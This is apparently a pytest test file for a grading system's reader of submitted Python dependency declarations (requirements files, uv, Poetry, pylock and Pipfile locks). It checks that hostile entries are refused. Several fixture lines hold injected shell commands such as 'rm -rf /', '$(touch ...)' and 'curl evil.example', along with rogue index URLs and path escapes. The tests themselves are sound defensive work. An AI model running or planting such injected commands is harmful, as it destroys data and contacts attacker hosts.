"""What a hand-in declares it depends on: every declaration style, refusals, hostile files."""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from packaging.markers import default_environment

from submissions.deps.declared import (
    MAX_FILE_BYTES,
    MAX_REQUIREMENTS,
    DeclarationError,
    declared_dependencies,
)
from tests.paths import ROOT


def tree(tmp_path: Path, files: dict[str, str]) -> Path:
    for name, text in files.items():
        path = tmp_path / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return tmp_path


def test_a_hand_in_that_declares_nothing_keeps_the_runtime(tmp_path: Path) -> None:
    declared = declared_dependencies(tree(tmp_path, {"main.py": "print(1)\n"}))
    assert not declared.declares_anything and declared.source == ""


def test_requirements_with_includes_hashes_and_markers(tmp_path: Path) -> None:
    root = tree(
        tmp_path,
        {
            "requirements.txt": (
                "# runtime\n"
                "tenacity==9.1.2 \\\n"
                "    --hash=sha256:0000000000000000000000000000000000000000000000000000000000000000\n"
                "rich>=13 ; python_version >= '3.8'  # pretty output\n"
                "-r requirements-dev.txt\n"
            ),
            "requirements-dev.txt": "-r requirements.txt\npytest==8.3.4\n",
        },
    )
    declared = declared_dependencies(root)
    assert declared.kind == "requirements" and not declared.locked
    assert declared.requirements == [
        "tenacity==9.1.2",
        'rich>=13; python_version >= "3.8"',
        "pytest==8.3.4",
    ]
    assert declared.refused == []  # the include loop is read once, not refused


def test_anything_but_a_name_from_the_index_is_refused_with_file_and_line(tmp_path: Path) -> None:
    root = tree(
        tmp_path,
        {
            "requirements.txt": (
                "--index-url https://evil.example/simple\n"
                "--extra-index-url=https://evil.example/simple\n"
                "-f ./wheels\n"
                "git+https://github.com/acme/tool.git#egg=tool\n"
                "tool @ https://evil.example/tool-1.0.tar.gz\n"
                "../outside/pkg\n"
                "-e ../sibling\n"
                "-e .\n"
                "-r ../../etc/requirements.txt\n"
                "requests; rm -rf /\n"
                "ok-package==1.0\n"
            )
        },
    )
    declared = declared_dependencies(root)
    assert declared.requirements == ["ok-package==1.0"]
    refused = {r.line: r.message for r in declared.refused}
    assert set(refused) == {1, 2, 3, 4, 5, 6, 7, 9, 10}
    assert refused[1] == "--index-url: only the configured index is used"
    assert "URL, not the package index" in refused[5]
    assert "only the hand-in itself" in refused[7]
    assert "outside the hand-in" in refused[9]
    assert "not a requirement" in refused[10]
    assert all(r.path == "requirements.txt" for r in declared.refused)


def test_a_uv_lock_wins_and_pins_every_package(tmp_path: Path) -> None:
    root = tree(
        tmp_path,
        {
            "requirements.txt": "tenacity\n",
            "uv.lock": (
                'version = 1\nrequires-python = ">=3.11"\n\n'
                '[[package]]\nname = "handin"\nversion = "0.1.0"\nsource = { editable = "." }\n'
                'dependencies = [{ name = "tenacity" }, { name = "tool" }]\n\n'
                '[[package]]\nname = "tenacity"\nversion = "9.1.2"\n'
                'source = { registry = "https://pypi.org/simple" }\n\n'
                '[[package]]\nname = "tool"\nversion = "1.0"\n'
                'source = { git = "https://github.com/acme/tool?rev=abc#abc" }\n'
            ),
        },
    )
    declared = declared_dependencies(root)
    assert declared.kind == "uv.lock" and declared.locked
    assert declared.requirements == ["tenacity==9.1.2"]
    assert [r.message for r in declared.refused] == ["tool comes from git, not the index"]
    assert declared.ignored == ["requirements"]


def test_a_universal_uv_lock_gives_only_what_this_sandbox_needs(tmp_path: Path) -> None:
    """A real lock (`uv lock` of a project on portalocker, which needs pywin32 on Windows,
    plus a dev group): pywin32 is for another platform and must not be asked for here."""
    lock = (ROOT / "tests" / "fixtures" / "locks" / "portalocker.uv.lock").read_text(
        encoding="utf-8"
    )
    root = tree(tmp_path, {"uv.lock": lock})
    linux = declared_dependencies(root)
    assert sorted(linux.requirements) == [
        "iniconfig==2.0.0",
        "portalocker==2.10.1",
        "tenacity==9.1.2",
    ]
    windows = declared_dependencies(root, {**default_environment(), "sys_platform": "win32"})
    assert "pywin32==312" in windows.requirements


def test_poetry_pylock_pyproject_and_pipfile_lock(tmp_path: Path) -> None:
    poetry = declared_dependencies(
        tree(
            tmp_path / "p",
            {
                "poetry.lock": (
                    '[[package]]\nname = "structlog"\nversion = "25.4.0"\n\n'
                    '[[package]]\nname = "local"\nversion = "0.1"\n'
                    '[package.source]\ntype = "directory"\nurl = "../local"\n'
                )
            },
        )
    )
    assert poetry.requirements == ["structlog==25.4.0"] and len(poetry.refused) == 1
    pylock = declared_dependencies(
        tree(
            tmp_path / "l",
            {
                "pylock.toml": (
                    'lock-version = "1.0"\n[[packages]]\nname = "rich"\nversion = "14.0.0"\n'
                    '[[packages]]\nname = "x"\n[packages.vcs]\ntype = "git"\n'
                    'url = "https://example.com/x"\ncommit-id = "abc"\n'
                )
            },
        )
    )
    assert pylock.requirements == ["rich==14.0.0"] and "vcs" in pylock.refused[0].message
    pyproject = declared_dependencies(
        tree(
            tmp_path / "y",
            {
                "pyproject.toml": (
                    '[project]\nname = "h"\nrequires-python = ">=3.11"\n'
                    'dependencies = ["pydantic<2"]\n'
                    '[project.optional-dependencies]\ntest = ["pytest"]\ndocs = ["sphinx"]\n'
                    '[dependency-groups]\ndev = ["ruff"]\n'
                )
            },
        )
    )
    assert pyproject.requirements == ["pydantic<2", "pytest", "ruff"]  # not the docs extra
    assert pyproject.requires_python == ">=3.11"
    pipfile = declared_dependencies(
        tree(
            tmp_path / "f",
            {
                "Pipfile.lock": (
                    '{"default": {"litellm": {"version": "==1.60.0"}, '
                    '"mine": {"git": "https://x/y.git"}}, "develop": {"pytest": {"version": "==8.3.4"}}}'
                )
            },
        )
    )
    assert pipfile.requirements == ["litellm==1.60.0", "pytest==8.3.4"]
    assert [r.message for r in pipfile.refused] == ["mine is not from the index: refused"]


def test_python_version_file_is_read_when_pyproject_names_none(tmp_path: Path) -> None:
    declared = declared_dependencies(tree(tmp_path, {".python-version": "3.12\n"}))
    assert declared.requires_python == "==3.12.*"


def test_hostile_declarations_are_findings_not_hangs(tmp_path: Path) -> None:
    many = "\n".join(f"package-{i}==1.0" for i in range(10_000))
    started = time.perf_counter()
    declared = declared_dependencies(tree(tmp_path / "a", {"requirements.txt": many}))
    assert time.perf_counter() - started < 5
    assert len(declared.requirements) == MAX_REQUIREMENTS
    assert [r.message for r in declared.refused] == [
        f"more than {MAX_REQUIREMENTS} requirements: the rest ignored"
    ]
    chain = {f"requirements-{i}.txt": f"-r requirements-{i + 1}.txt\n" for i in range(200)}
    chain["requirements.txt"] = "-r requirements-0.txt\n"
    nested = declared_dependencies(tree(tmp_path / "b", chain))
    assert any("nested includes" in r.message for r in nested.refused)
    big = tmp_path / "c"
    big.mkdir()
    (big / "uv.lock").write_bytes(b"#" * (MAX_FILE_BYTES + 1))
    with pytest.raises(DeclarationError, match=r"uv\.lock: .* over the"):
        declared_dependencies(big)
    broken = tree(tmp_path / "d", {"poetry.lock": "[[package]\nname = "})
    with pytest.raises(DeclarationError, match=r"poetry\.lock: not valid TOML"):
        declared_dependencies(broken)


def test_a_pyproject_whose_project_is_not_a_table_declares_nothing(tmp_path: Path) -> None:
    """`project = "x"` once raised AttributeError out of the dependency stage (mypy found it)."""
    declared = declared_dependencies(tree(tmp_path, {"pyproject.toml": 'project = "x"\n'}))
    assert not declared.declares_anything and declared.refused == []
    grouped = declared_dependencies(
        tree(
            tmp_path / "g",
            {"pyproject.toml": 'project = 1\n[dependency-groups]\ntest = ["pytest"]\n'},
        )
    )
    assert grouped.source == "pyproject.toml" and grouped.requirements == ["pytest"]


@pytest.mark.parametrize(
    "line",
    [
        "tenacity; rm -rf /",
        "$(touch /tmp/cr-pwned)==1.0",
        "rich`id`",
        "httpx==0.28.1 && curl evil.example",
        "x==1 --index-url=https://evil.example/simple",
    ],
)
def test_shell_metacharacters_never_reach_the_resolver(tmp_path: Path, line: str) -> None:
    declared = declared_dependencies(tree(tmp_path, {"requirements.txt": line + "\n"}))
    assert declared.requirements == []  # nothing of it would reach uv
    (refusal,) = declared.refused
    assert (refusal.path, refusal.line) == ("requirements.txt", 1)


def test_a_linked_or_special_declaration_is_not_followed(tmp_path: Path) -> None:
    import os

    root = tmp_path / "r"
    root.mkdir()
    (tmp_path / "secret.txt").write_text("leaked==1.0\n")
    (root / "requirements.txt").symlink_to(tmp_path / "secret.txt")
    os.mkfifo(root / "requirements-dev.txt")
    declared = declared_dependencies(root)
    assert declared.requirements == []


def test_a_uv_lock_with_a_cycle_of_extras_or_odd_types_ends_at_once(tmp_path: Path) -> None:
    lock = (
        'version = 1\n\n[[package]]\nname = "h"\nversion = "0"\nsource = { virtual = "." }\n'
        'dependencies = [{ name = "a", extra = ["x"] }, { name = "b", marker = 1 },'
        ' { name = "c", extra = 5 }, { name = 7 }]\n\n'
        '[[package]]\nname = "a"\nversion = "1.0"\nsource = { registry = "https://pypi.org/simple" }\n'
        '[package.optional-dependencies]\nx = [{ name = "a", extra = ["x", "y"] }]\n'
        'y = [{ name = "a", extra = ["x"] }]\n\n'
        '[[package]]\nname = "b"\nversion = "2.0"\nsource = { registry = "https://pypi.org/simple" }\n\n'
        '[[package]]\nname = "c"\nversion = "3.0"\nsource = { registry = "https://pypi.org/simple" }\n'
        'dependencies = "not a list"\n'
    )
    started = time.perf_counter()
    declared = declared_dependencies(tree(tmp_path, {"uv.lock": lock}))
    assert time.perf_counter() - started < 2
    assert sorted(declared.requirements) == ["a==1.0", "b==2.0", "c==3.0"]


HANDINS = ROOT / "tests" / "fixtures" / "handins"


def test_a_poetry_lock_gives_only_what_poetry_installs_here() -> None:
    """A real Poetry 2.5 lock (portalocker, pytest in the dev group): pywin32 is locked for
    `platform_system == "Windows"` and colorama for `sys_platform == "win32"`, neither of
    which `poetry install` puts on Linux; asking the index for them fails the hand-in."""
    root = HANDINS / "lock-poetry-platform-markers"
    linux = declared_dependencies(root)
    assert sorted(linux.requirements) == [
        "iniconfig==2.3.1",
        "packaging==26.4",
        "pluggy==1.7.0",
        "portalocker==2.10.1",
        "pygments==2.21.0",
        "pytest==8.4.2",
    ]
    windows = {**default_environment(), "sys_platform": "win32", "platform_system": "Windows"}
    assert {"pywin32==312", "colorama==0.4.6"} <= set(
        declared_dependencies(root, windows).requirements
    )
    older = {**default_environment(), "python_full_version": "3.9.1", "python_version": "3.9"}
    assert "iniconfig==2.3.1" not in declared_dependencies(root, older).requirements


def test_an_older_poetry_lock_is_walked_along_edges_whose_markers_hold(tmp_path: Path) -> None:
    """Lock 2.0 keeps markers on the edges only: what only Windows needs is left out, what
    the project lists itself is kept whatever another entry's edge says."""
    lock = (
        '[[package]]\nname = "portalocker"\nversion = "2.10.1"\npython-versions = ">=3.8"\n'
        '[package.dependencies]\npywin32 = {version = ">=226", markers = "platform_system == '
        '\\"Windows\\""}\n\n'
        '[[package]]\nname = "pywin32"\nversion = "311"\npython-versions = "*"\n'
        '[package.dependencies]\nwin-helper = "*"\n\n'
        '[[package]]\nname = "win-helper"\nversion = "1.0"\npython-versions = "*"\n\n'
        '[[package]]\nname = "click"\nversion = "8.1.7"\npython-versions = ">=3.7"\n'
        '[package.dependencies]\ncolorama = {version = "*", markers = "platform_system == '
        '\\"Windows\\""}\n\n'
        '[[package]]\nname = "colorama"\nversion = "0.4.6"\npython-versions = "*"\n\n'
        '[metadata]\nlock-version = "2.0"\n'
    )
    pyproject = (
        '[tool.poetry.dependencies]\npython = "^3.11"\nportalocker = "^2.10"\nclick = "*"\n'
        '[tool.poetry.group.dev.dependencies]\ncolorama = "*"\n'
    )
    root = tree(tmp_path, {"poetry.lock": lock, "pyproject.toml": pyproject})
    assert sorted(declared_dependencies(root).requirements) == [
        "click==8.1.7",
        "colorama==0.4.6",
        "portalocker==2.10.1",
    ]


def test_pylock_pipfile_lock_and_uv_forks_are_judged_by_their_markers(tmp_path: Path) -> None:
    pylock = declared_dependencies(
        tree(
            tmp_path / "l",
            {
                "pylock.toml": (
                    'lock-version = "1.0"\n[[packages]]\nname = "rich"\nversion = "14.0.0"\n'
                    '[[packages]]\nname = "pywin32"\nversion = "311"\n'
                    "marker = \"sys_platform == 'win32'\"\n"
                    '[[packages]]\nname = "old"\nversion = "1.0"\nrequires-python = "<3.9"\n'
                    '[[packages]]\nname = "pytest"\nversion = "8.4.2"\n'
                    "marker = \"'dev' in dependency_groups\"\n"
                )
            },
        )
    )
    assert pylock.requirements == ["rich==14.0.0", "pytest==8.4.2"]
    pipfile = declared_dependencies(
        tree(
            tmp_path / "f",
            {
                "Pipfile.lock": (
                    '{"default": {"rich": {"version": "==14.0.0"}, "pywin32": {"version": '
                    '"==311", "markers": "sys_platform == \'win32\'"}}, "develop": {}}'
                )
            },
        )
    )
    assert pipfile.requirements == ["rich==14.0.0"]
    uv = declared_dependencies(
        tree(
            tmp_path / "u",
            {
                "uv.lock": (
                    'version = 1\n[[package]]\nname = "numpy"\nversion = "1.24.4"\n'
                    "resolution-markers = [\"python_full_version < '3.9'\"]\n"
                    'source = { registry = "https://pypi.org/simple" }\n'
                    '[[package]]\nname = "numpy"\nversion = "2.3.1"\n'
                    "resolution-markers = [\"python_full_version >= '3.9'\"]\n"
                    'source = { registry = "https://pypi.org/simple" }\n'
                )
            },
        )
    )
    assert uv.requirements == ["numpy==2.3.1"]
